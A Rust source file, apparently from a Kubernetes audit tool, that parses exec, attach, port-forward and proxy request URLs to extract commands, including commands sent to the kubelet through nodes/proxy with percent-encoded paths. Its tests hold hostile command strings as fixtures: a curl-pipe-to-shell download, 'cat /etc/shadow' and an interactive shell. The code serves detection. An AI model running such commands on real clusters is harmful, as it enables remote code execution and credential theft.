//! Options in the URL of a request: those of streams and proxies, and dry runs.

use form_urlencoded::parse;
use wardline_event::model::{Attribute, ConnectOptions, ObjectReference};

/// Whether the query requests a dry run; `All` is the only valid value of `dryRun`.
pub(super) fn is_dry_run(uri: &str) -> bool {
    let (_, query) = halves(uri);
    parse(query.as_bytes()).any(|(key, value)| key == "dryRun" && value == "All")
}

fn halves(uri: &str) -> (&str, &str) {
    uri.split_once('?').unwrap_or((uri, ""))
}

/// Returns the options of `pods/exec`, `attach`, `portforward`, and `log`, and of the
/// `proxy` of pods, services, and nodes. The body of such a request is the stream, so all
/// options are in the URL.
pub(super) fn options(object: &ObjectReference, uri: &str) -> Option<ConnectOptions> {
    if !object.api_group.is_empty() {
        return None;
    }
    let (path, query) = halves(uri);
    match (object.resource.as_str(), object.subresource.as_str()) {
        ("pods", "exec" | "attach" | "portforward" | "log") => Some(stream(query)),
        ("nodes", "proxy") => Some(kubelet(path, query)),
        ("pods" | "services", "proxy") => Some(ConnectOptions {
            path: with_query(&behind_proxy(path), query),
            ..ConnectOptions::default()
        }),
        _ => None,
    }
}

fn stream(query: &str) -> ConnectOptions {
    let mut options = ConnectOptions::default();
    for (key, value) in parse(query.as_bytes()) {
        match key.as_ref() {
            "container" => options.container = value.into_owned(),
            "command" => options.command.push(value.into_owned()),
            "stdin" => options.stdin = is_true(&value),
            "stdout" => options.stdout = is_true(&value),
            "tty" => options.tty = is_true(&value),
            "ports" => {
                let ports = value.split(',').map_while(|port| port.trim().parse().ok());
                options.ports.extend::<Vec<i64>>(ports.collect());
            }
            _ => options.options.push(Attribute {
                key: key.into_owned(),
                value: value.into_owned(),
            }),
        }
    }
    options
}

/// Whether Kubernetes reads a value of a query as true: every value except `false` and `0`,
/// even an empty one (`k8s.io/apimachinery`, `Convert_Slice_string_To_bool`).
fn is_true(value: &str) -> bool {
    value != "0" && !value.eq_ignore_ascii_case("false")
}

/// Reads a request to the kubelet's own API through `nodes/proxy`. Its `/run/`, `/exec/`,
/// and `/attach/` run commands in containers without a `pods/exec` request.
fn kubelet(path: &str, query: &str) -> ConnectOptions {
    let behind = behind_proxy(path);
    let mut options = ConnectOptions::default();
    for (key, value) in parse(query.as_bytes()) {
        match key.as_ref() {
            "command" => options.command.push(value.into_owned()),
            // The kubelet splits this value at spaces.
            "cmd" => options.command.extend(value.split(' ').map(str::to_owned)),
            "input" | "stdin" => options.stdin = is_true(&value),
            "output" | "stdout" => options.stdout = is_true(&value),
            "tty" => options.tty = is_true(&value),
            _ => {}
        }
    }
    let segments: Vec<&str> = behind.split('/').skip(1).collect();
    // `/exec/NAMESPACE/POD/CONTAINER`, or with the pod's UID before the container.
    if let ["run" | "exec" | "attach" | "containerLogs", _, _, rest @ ..] = segments.as_slice() {
        options.container = rest.last().map(ToString::to_string).unwrap_or_default();
    }
    options.path = with_query(&behind, query);
    options
}

fn with_query(path: &str, query: &str) -> String {
    if query.is_empty() {
        path.to_owned()
    } else {
        format!("{path}?{query}")
    }
}

/// Returns the path after `/api/VERSION[/namespaces/NAMESPACE]/RESOURCE/NAME/proxy`, with
/// `%XX` decoded as its receiver does, so that `/%72un/` is recognized as `/run/`.
fn behind_proxy(path: &str) -> String {
    let mut segments = path.splitn(6, '/');
    let is_namespaced = segments.nth(3) == Some("namespaces");
    // By position, since a namespace or a pod may be named `proxy`.
    let before = if is_namespaced { 8 } else { 6 };
    let rest = path.splitn(before + 1, '/').nth(before);
    match rest {
        None => String::new(),
        Some(rest) => format!(
            "/{}",
            percent_encoding::percent_decode_str(rest).decode_utf8_lossy()
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(resource: &str, subresource: &str, uri: &str) -> ConnectOptions {
        let object = ObjectReference {
            resource: resource.into(),
            subresource: subresource.into(),
            ..ObjectReference::default()
        };
        options(&object, uri).unwrap()
    }

    #[test]
    fn commands_keep_their_order_and_spaces() {
        let uri = "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%20%7C+sh&container=app&stdin=true&stdout&tty=false&stderr=1";
        let options = of("pods", "exec", uri);
        assert_eq!(options.command, ["sh", "-c", "curl http://x | sh"]);
        assert_eq!(options.container, "app");
        assert!(options.stdin && options.stdout && !options.tty);
        assert_eq!(options.options[0].key, "stderr");
    }

    #[test]
    fn ports_are_read_from_one_key_or_several() {
        let options = of("pods", "portforward", "/x?ports=80,443&ports=8080");
        assert_eq!(options.ports, [80, 443, 8080]);
    }

    #[test]
    fn proxy_path_is_the_part_after_proxy() {
        let path = |resource, uri| of(resource, "proxy", uri).path;
        assert_eq!(
            path(
                "pods",
                "/api/v1/namespaces/proxy/pods/proxy/proxy/proxy/a?b=c"
            ),
            "/proxy/a?b=c"
        );
        assert_eq!(
            path(
                "services",
                "/api/v1/namespaces/x/services/https:web:/proxy/"
            ),
            "/"
        );
        assert_eq!(
            path("services", "/api/v1/namespaces/x/services/web/proxy"),
            ""
        );
        assert_eq!(
            path("nodes", "/api/v1/nodes/node-1/proxy/runningpods/"),
            "/runningpods/"
        );
    }

    #[test]
    fn commands_through_the_kubelet_are_found() {
        let run = of(
            "nodes",
            "proxy",
            "/api/v1/nodes/n/proxy/%72un/shop/web/app?cmd=cat+/etc/shadow",
        );
        assert_eq!(run.command, ["cat", "/etc/shadow"]);
        assert_eq!(run.container, "app");
        assert!(run.path.starts_with("/run/shop/web/app?"));
        let exec = of(
            "nodes",
            "proxy",
            "/api/v1/nodes/n/proxy/exec/shop/web/uid/app?command=sh&command=-i&input=1&output=1&tty=1",
        );
        assert_eq!(exec.command, ["sh", "-i"]);
        assert_eq!(exec.container, "app");
        assert!(exec.stdin && exec.stdout && exec.tty);
    }

    #[test]
    fn other_requests_have_no_options() {
        let mut object = ObjectReference {
            resource: "pods".into(),
            subresource: "status".into(),
            ..ObjectReference::default()
        };
        assert_eq!(options(&object, "/x?command=sh"), None);
        object.subresource = "exec".into();
        object.api_group = "example.com".into();
        assert_eq!(options(&object, "/x?command=sh"), None);
    }

    #[test]
    fn dry_runs_are_in_the_query() {
        assert!(is_dry_run("/x?fieldManager=a&dryRun=All"));
        assert!(is_dry_run("/x?dryRun=%41ll"));
        assert!(!is_dry_run("/x?dryRun="));
        assert!(!is_dry_run("/dryRun=All"));
    }
}
